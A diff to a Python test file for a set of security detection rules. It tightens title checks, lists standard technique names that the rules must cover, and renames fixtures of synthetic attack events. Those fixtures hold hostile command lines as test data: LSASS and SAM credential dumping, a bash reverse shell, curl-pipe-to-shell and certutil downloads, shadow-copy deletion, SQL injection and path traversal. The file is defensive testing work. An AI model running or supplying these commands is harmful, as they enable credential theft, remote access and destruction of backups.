@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 import uuid
 from importlib import resources
 
@@ -54,7 +55,45 @@ def test_a_rule_of_ours_says_all_that_a_reader_needs(rule: Rule):
 
 
 def test_no_two_rules_of_ours_have_the_same_id_or_title():
-    assert len({rule.id for rule in RULES}) == len({rule.title for rule in RULES}) == len(RULES)
+    titles = {rule.title.casefold() for rule in RULES}
+
+    assert len({rule.id for rule in RULES}) == len(titles) == len(RULES)
+
+
+@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.title)
+def test_a_title_is_a_short_noun_phrase(rule: Rule):
+    assert len(rule.title) <= 90
+    assert not rule.title.endswith(".")
+    assert not rule.title.startswith(("A ", "An ", "The "))
+
+
+UNIDIOMATIC = re.compile(
+    r"\b(where (it|there|nothing)|asked (for|by)|that is (none|no)|strange|odd (place|name)|stands? (in|beside|behind)"
+    r"|somebody|who(m)?ever|another than|goes first|from afar|looked (over|for)|made hard|one's own|as the system"
+    r"|rights of the system|raise[sd]? (its |their )?(own )?rights|security authority|protection program|ransom program"
+    r"|told|wants?|deeds?|in vain)\b",
+    re.IGNORECASE,
+)
+
+
+@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.title)
+def test_a_rule_is_worded_in_the_fields_terms(rule: Rule):
+    for text in (rule.title, rule.description, *rule.false_positives):
+        assert not UNIDIOMATIC.search(text), text
+
+
+STANDARD_NAMES = (
+    "LSASS dump", "Mimikatz", "DCSync", "DCShadow", "Kerberoasting", "AS-REP roasting", "Pass-the-hash",
+    "Golden ticket", "Zerologon", "PrintNightmare", "PetitPotam", "noPac", "BYOVD", "UAC bypass", "Potato",
+    "AMSI bypass", "Timestomping", "Process hollowing", "DLL injection", "COM hijacking", "Web shell",
+    "SQL injection", "Path traversal", "SSRF", "Reverse shell", "PsExec", "Impacket", "LOLBin", "Log4Shell",
+    "Cryptominer", "whoami run as SYSTEM", "BITS job",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("name", STANDARD_NAMES)
+def test_the_usual_name_of_a_technique_finds_a_rule(name: str):
+    assert any(name.casefold() in rule.title.casefold() for rule in RULES)
 
 
 def test_no_rule_of_ours_asks_what_another_program_already_concluded():
@@ -92,124 +131,124 @@ def matched(event: Event) -> list[Rule]:
 
 S32 = r"C:\Windows\System32"
 ATTACKS = {
-    "lsass by comsvcs": (
+    "comsvcs MiniDump of LSASS": (
         started(rf"{S32}\rundll32.exe", r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\x.dmp full"),
         "credential-access",
     ),
-    "4688 counts as a start": (
+    "SAM hive saved (event 4688)": (
         windows("Security", 4688, NewProcessName=rf"{S32}\reg.exe", CommandLine=r"reg save hklm\sam C:\t\s.hive"),
         "credential-access",
     ),
-    "lsass read": (
+    "LSASS memory access": (
         windows(
             SYSMON, 10, SourceImage=r"C:\t\a.exe", TargetImage=rf"{S32}\lsass.exe", GrantedAccess="0x1410", CallTrace=""
         ),
         "credential-access",
     ),
-    "replication by a user": (
+    "DCSync": (
         windows(
             "Security", 4662, SubjectUserName="eve", Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"
         ),
         "credential-access",
     ),
-    "ticket with RC4": (
+    "Kerberoasting": (
         windows("Security", 4769, ServiceName="sql", TicketEncryptionType="0x17", Status="0x0"),
         "credential-access",
     ),
-    "anonymous change of a computer": (
+    "Zerologon": (
         windows("Security", 4742, SubjectUserName="ANONYMOUS LOGON", TargetUserName="DC1$"),
         "credential-access",
     ),
-    "wmi starts a shell": (
+    "WmiPrvSE spawns a shell": (
         started(rf"{S32}\cmd.exe", "cmd /c dir", rf"{S32}\wbem\WmiPrvSE.exe"),
         "lateral-movement",
     ),
-    "service of a remote shell": (
+    "PsExec service": (
         windows("System", 7045, ServiceName="PSEXESVC", ImagePath=r"%SystemRoot%\PSEXESVC.exe"),
         "lateral-movement",
     ),
-    "hash passed": (
+    "pass the hash": (
         windows("Security", 4624, LogonType="9", LogonProcessName="seclogo", TargetUserName="eve"),
         "lateral-movement",
     ),
-    "pipe of the service manager": (
+    "remote svcctl pipe": (
         windows("Security", 5145, ShareName=r"\\*\IPC$", RelativeTargetName="svcctl", IpAddress="10.0.0.9"),
         "lateral-movement",
     ),
-    "remote desktop by a tunnel": (
+    "RDP through a tunnel": (
         windows("Security", 4624, LogonType="10", IpAddress="127.0.0.1", TargetUserName="eve"),
         "command-and-control",
     ),
     "log cleared": (windows("Security", 1102), "defense-evasion"),
-    "defender off": (windows("Microsoft-Windows-Windows Defender/Operational", 5001), "defense-evasion"),
-    "amsi": (
+    "Defender disabled": (windows("Microsoft-Windows-Windows Defender/Operational", 5001), "defense-evasion"),
+    "AMSI bypass": (
         windows("Microsoft-Windows-PowerShell/Operational", 4104, ScriptBlockText="$x.GetField('amsiInitFailed')"),
         "defense-evasion",
     ),
-    "thread in another process": (
+    "remote thread injection": (
         windows(SYSMON, 8, SourceImage=r"C:\t\a.exe", TargetImage=r"C:\t\b.exe", StartModule=""),
         "defense-evasion",
     ),
-    "driver brought along": (
+    "vulnerable driver (BYOVD)": (
         windows(SYSMON, 6, ImageLoaded=r"C:\Users\eve\RTCore64.sys", Signed="true", SignatureStatus="Valid"),
         "defense-evasion",
     ),
-    "run key": (
+    "Run key": (
         windows(
             SYSMON, 13, EventType="SetValue", TargetObject=r"HKU\S-1\Software\Microsoft\Windows\CurrentVersion\Run\a",
             Details=r"powershell -enc AAAA", Image=rf"{S32}\reg.exe",
         ),
         "persistence",
     ),
-    "wmi consumer": (windows(SYSMON, 20, Name="x", Type="Command Line", Destination="cmd /c a"), "persistence"),
-    "task with a shell": (
+    "WMI event consumer": (windows(SYSMON, 20, Name="x", Type="Command Line", Destination="cmd /c a"), "persistence"),
+    "suspicious scheduled task": (
         windows("Security", 4698, TaskName=r"\a", TaskContent="<Command>powershell.exe</Command>"),
         "persistence",
     ),
-    "guest in a group": (windows("Security", 4732, MemberSid="S-1-5-21-1-2-3-501"), "persistence"),
+    "Guest added to a group": (windows("Security", 4732, MemberSid="S-1-5-21-1-2-3-501"), "persistence"),
     "web shell": (started(rf"{S32}\cmd.exe", "cmd /c whoami", rf"{S32}\inetsrv\w3wp.exe"), "persistence"),
-    "logon screen": (started(rf"{S32}\cmd.exe", "cmd", rf"{S32}\sethc.exe"), "persistence"),
-    "rights without a question": (
+    "sticky keys backdoor": (started(rf"{S32}\cmd.exe", "cmd", rf"{S32}\sethc.exe"), "persistence"),
+    "UAC bypass with fodhelper": (
         started(rf"{S32}\cmd.exe", "cmd", rf"{S32}\fodhelper.exe"),
         "privilege-escalation",
     ),
-    "key for that": (
+    "UAC bypass registry key": (
         windows(
             SYSMON, 13, EventType="SetValue", TargetObject=r"HKU\S-1_Classes\ms-settings\shell\open\command\(Default)",
             Details="cmd.exe",
         ),
         "privilege-escalation",
     ),
-    "pipe for getsystem": (
+    "getsystem named pipe": (
         windows("System", 7045, ServiceName="x", ImagePath=r"cmd.exe /c echo x > \\.\pipe\abc"),
         "privilege-escalation",
     ),
-    "encoded command": (
+    "PowerShell encoded command": (
         started(rf"{S32}\WindowsPowerShell\v1.0\powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQ=="),
         "execution",
     ),
-    "macro": (started(rf"{S32}\cmd.exe", "cmd /c a", r"C:\Program Files\Office\WINWORD.EXE"), "execution"),
-    "scriptlet": (started(rf"{S32}\regsvr32.exe", "regsvr32 /s /i:http://a/b.sct scrobj.dll"), "execution"),
-    "administrators listed": (started(rf"{S32}\net.exe", 'net group "Domain Admins" /domain'), "discovery"),
-    "certutil": (started(rf"{S32}\certutil.exe", "certutil -urlcache -f http://a/b b"), "command-and-control"),
-    "backups destroyed": (started(rf"{S32}\vssadmin.exe", "vssadmin delete shadows /all /quiet"), "impact"),
+    "Office macro": (started(rf"{S32}\cmd.exe", "cmd /c a", r"C:\Program Files\Office\WINWORD.EXE"), "execution"),
+    "Squiblydoo": (started(rf"{S32}\regsvr32.exe", "regsvr32 /s /i:http://a/b.sct scrobj.dll"), "execution"),
+    "Domain Admins enumeration": (started(rf"{S32}\net.exe", 'net group "Domain Admins" /domain'), "discovery"),
+    "certutil download": (started(rf"{S32}\certutil.exe", "certutil -urlcache -f http://a/b b"), "command-and-control"),
+    "shadow copies deleted": (started(rf"{S32}\vssadmin.exe", "vssadmin delete shadows /all /quiet"), "impact"),
     "reverse shell on Linux": (
         other("linux", "auditd", "process_creation", CommandLine="bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"),
         "command-and-control",
     ),
-    "job that downloads": (
+    "cron job that downloads": (
         other("linux", "cron", message="(root) CMD (curl http://a/b | sh)"),
         "persistence",
     ),
-    "SQL in a request": (
+    "SQL injection": (
         other("", "", "webserver", cs_uri_query="/a?id=1 UNION SELECT password FROM users", sc_status="200"),
         "initial-access",
     ),
-    "path out of the folder": (
+    "path traversal": (
         other("", "", "webserver", cs_uri_query="/a?f=../../../../etc/passwd", sc_status="404"),
         "initial-access",
     ),
-    "trail stopped": (other("aws", "cloudtrail", eventName="StopLogging"), "defense-evasion"),
+    "CloudTrail stopped": (other("aws", "cloudtrail", eventName="StopLogging"), "defense-evasion"),
 }  # fmt: skip
 
 
